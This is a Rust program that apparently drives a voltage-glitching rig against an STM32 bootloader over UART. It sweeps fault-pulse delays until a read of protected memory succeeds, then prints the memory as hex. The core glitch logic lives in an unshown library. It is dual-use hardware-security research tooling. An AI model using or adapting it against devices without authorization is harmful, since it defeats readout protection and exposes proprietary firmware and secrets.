#[macro_use]
extern crate log;

extern crate structopt;
use structopt::StructOpt;

extern crate simplelog;
use simplelog::{Config, LevelFilter, SimpleLogger};

use indicatif::ProgressBar;

use stm32_uart_glitcher::protocol::MAX_CHUNK;
use stm32_uart_glitcher::{Glitcher, Options, State};

#[derive(Clone, Debug, StructOpt)]
pub struct Args {
    /// Serial port connected to the target bootloader UART
    #[structopt(long, default_value = "/dev/ttyUSB0")]
    port: String,

    /// Serial port baud rate
    #[structopt(long, default_value = "9600")]
    baud: usize,

    /// sysfs GPIO driving the target supply rail
    #[structopt(long, default_value = "25")]
    power_pin: u64,

    /// sysfs GPIO triggering the fault pulse generator
    #[structopt(long, default_value = "26")]
    pulse_pin: u64,

    #[structopt(flatten)]
    options: Options,

    /// Log level for console output
    #[structopt(long, default_value = "debug")]
    log_level: LevelFilter,
}

fn main() {
    // Parse out arguments
    let o = Args::from_args();

    // Configure logger
    let _ = SimpleLogger::init(o.log_level, Config::default());

    info!("Connecting to serial port and fault hardware");

    let mut g = match Glitcher::linux(
        &o.port,
        o.baud,
        o.power_pin,
        o.pulse_pin,
        o.options.clone(),
    ) {
        Ok(g) => g,
        Err(e) => {
            println!("Error setting up glitch rig: {:?}", e);
            return;
        }
    };

    info!("Powering target and connecting to bootloader");

    if let Err(e) = g.power_cycle() {
        warn!("Initial handshake failed: {:?}", e);
    }

    let (min, max) = (o.options.delay_min, o.options.delay_max);

    info!("Sweeping glitch delay {}..={}", min, max);

    let pb = ProgressBar::new(u64::from(max.saturating_sub(min)) + 1);

    let mut data = [0u8; MAX_CHUNK];
    let mut hit = None;

    for delay_cycles in min..=max {
        if g.state() != State::Ready {
            if let Err(e) = g.power_cycle() {
                debug!("Delay {}: target not recovered: {:?}", delay_cycles, e);
                pb.inc(1);
                continue;
            }
        }

        match g.read_protected(delay_cycles, &mut data) {
            Ok(len) => {
                hit = Some((delay_cycles, len));
                break;
            }
            Err(e) => debug!("Delay {}: attempt failed: {:?}", delay_cycles, e),
        }

        pb.inc(1);
    }

    pb.finish_and_clear();

    match hit {
        Some((delay_cycles, len)) => {
            info!("Glitch landed at delay {}", delay_cycles);
            info!("Protected memory: {}", hex::encode(&data[..len]));
        }
        None => warn!("Sweep exhausted with no readout"),
    }
}
